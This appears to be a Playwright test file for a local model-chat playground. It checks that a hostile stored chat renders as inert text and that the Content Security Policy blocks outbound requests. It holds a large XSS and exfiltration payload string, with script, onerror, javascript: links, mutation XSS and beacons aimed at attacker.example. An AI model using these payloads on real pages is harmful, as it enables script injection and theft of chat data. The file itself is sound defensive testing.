"""What a model writes, and what a model file says of itself, shown in a real browser: as text, and never as orders.

A chat that the browser kept is restored, with a model's messages in it that try everything that Markdown and HTML
can. Whatever leaves this computer, and every error in the page, fails the test by itself (see visitor.py).
"""

from __future__ import annotations

import json
from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Page, Request, expect

from tests.e2e.visitor import Visitor
from tests.support.playground_process import PlaygroundProcess

FAR = "http://attacker.example"
HOSTILE = f"""The end is near.

![a]({FAR}/markdown.png?chat=secret) ![b](//attacker.example/scheme.png) ![c][ref]

[ref]: {FAR}/reference.png

<img src="{FAR}/img.png" onerror="window.hurt='img'"> <img src=x onerror="window.hurt='onerror'">
<script>window.hurt = 'script'</script><script src="{FAR}/x.js"></script>
<svg onload="window.hurt='svg'"><image href="{FAR}/svg.png"/><use href="{FAR}/use.svg#x"/></svg>
<iframe src="{FAR}/frame" srcdoc="<script>parent.hurt='frame'</script>"></iframe>
<object data="{FAR}/object"></object><embed src="{FAR}/embed">
<video src="{FAR}/video.mp4" poster="{FAR}/poster.png" autoplay></video><audio src="{FAR}/audio.mp3" autoplay></audio>
<link rel="stylesheet" href="{FAR}/style.css"><style>@import url({FAR}/import.css); body {{ display: none }}</style>
<div style="background: url({FAR}/background.png); position: fixed; inset: 0; z-index: 99999">over all</div>
<form action="{FAR}/form"><input name="password" autofocus onfocus="window.hurt='focus'"><button>Go</button></form>
<meta http-equiv="refresh" content="0; url={FAR}/refresh"><base href="{FAR}/">
<a href="javascript:window.hurt='link'">press me</a> [and me](javascript:window.hurt='markdown')
[me too](data:text/html,<script>window.hurt='data'</script>) <{FAR}/autolink>
<details open ontoggle="window.hurt='toggle'"><summary>x</summary></details>
<math><mtext></mtext><mglyph><style><img src=x onerror="window.hurt='mutation'"></style></mglyph></math>

$$\\href{{javascript:window.hurt='latex'}}{{x}} \\includegraphics{{{FAR}/latex.png}}$$

```html
<img src="{FAR}/code.png" onerror="window.hurt='code'">
```

```mermaid
graph LR; A-->B; click A href "javascript:window.hurt='mermaid'"
```
"""
KEPT = json.dumps(
    {
        "system": "",
        "messages": [
            {"role": "user", "content": "Hello " + HOSTILE},
            {"role": "assistant", "content": HOSTILE, "thinking": HOSTILE},
            {"role": "user", "content": "And?"},
            {"role": "assistant", "content": "It was harmless."},
        ],
    }
)


@pytest.fixture
def visit(browser: Browser, playground_process: PlaygroundProcess) -> Iterator[Visitor]:
    visitor = Visitor(browser, playground_process.address)
    yield visitor
    visitor.leave()
    assert not visitor.unexpected, visitor.unexpected


def restored(visit: Visitor) -> Page:
    """The page with a chat that it kept in a visit before."""
    page = visit(kept={"gguf-playground-chat": KEPT})
    expect(page.get_by_test_id("bot").last).to_contain_text("It was harmless.")
    return page


def requests_to_elsewhere(page: Page) -> list[str]:
    seen: list[str] = []

    def note_request(request: Request) -> None:
        if FAR[7:] in request.url:
            seen.append(request.url)

    page.context.on("request", note_request)
    return seen


def test_a_hostile_reply_is_read_as_text_and_runs_nothing(visit: Visitor) -> None:
    page = restored(visit)
    log = page.get_by_role("log")
    expect(log).to_contain_text("The end is near.")
    for thought in log.get_by_text("Thoughts").all():
        thought.click()
    for link in log.locator("a").all():
        assert not (link.get_attribute("href") or "").lower().startswith(("javascript:", "data:", "vbscript:"))
    for part in ("script", "iframe", "object", "embed", "form", "meta", "base", "link"):
        assert log.locator(part).count() == 0, part
    assert "attacker" not in "".join(log.locator("style").all_text_contents())  # a drawn diagram has styles of its own
    assert page.evaluate("window.hurt") is None


def test_a_hostile_reply_makes_the_browser_ask_nobody(visit: Visitor) -> None:
    page = visit()
    seen = requests_to_elsewhere(page)
    page.evaluate("kept => sessionStorage.setItem('gguf-playground-chat', kept)", KEPT)
    visit.reload(page)
    expect(page.get_by_test_id("bot").last).to_contain_text("It was harmless.")
    expect(page.get_by_role("log")).to_contain_text("The end is near.")
    assert seen == []


def test_a_hostile_reply_covers_nothing_of_the_page(visit: Visitor) -> None:
    page = restored(visit)
    page.get_by_role("tab", name="Learn").click()
    expect(page.get_by_role("tab", name="Learn")).to_have_attribute("aria-selected", "true")


def test_the_content_policy_alone_would_stop_pictures_and_scripts(
    visit: Visitor,
) -> None:
    visit.expected = [r"attacker\.example", r"Content Security Policy"]
    page = visit()
    blocked = page.evaluate(
        """async far => {
          const blocked = [];
          document.addEventListener('securitypolicyviolation', event => blocked.push(event.effectiveDirective));
          for (const tag of ['img', 'script', 'iframe', 'video']) {
            const part = document.createElement(tag);
            part.src = far + '/' + tag;
            document.body.append(part);
          }
          await fetch(far + '/fetch').catch(() => {});
          try { navigator.sendBeacon(far + '/beacon', 'chat'); } catch {}
          const sheet = document.createElement('link');
          sheet.rel = 'stylesheet'; sheet.href = far + '/style.css';
          document.head.append(sheet);
          const frame = document.createElement('iframe');  // a form that is sent into it leaves this page as it is
          frame.name = 'elsewhere';
          const form = document.createElement('form');
          form.action = far + '/form';
          form.target = frame.name;
          document.body.append(frame);
          document.body.append(form);
          form.submit();
          for (let turns = 0; turns < 100 && new Set(blocked).size < 7; turns++)
            await new Promise(done => requestAnimationFrame(done));
          return [...new Set(blocked)].sort();
        }""",
        FAR,
    )
    assert {"connect-src", "form-action", "frame-src", "img-src", "media-src", "script-src-elem"} <= {*blocked}
    assert "style-src-elem" in blocked
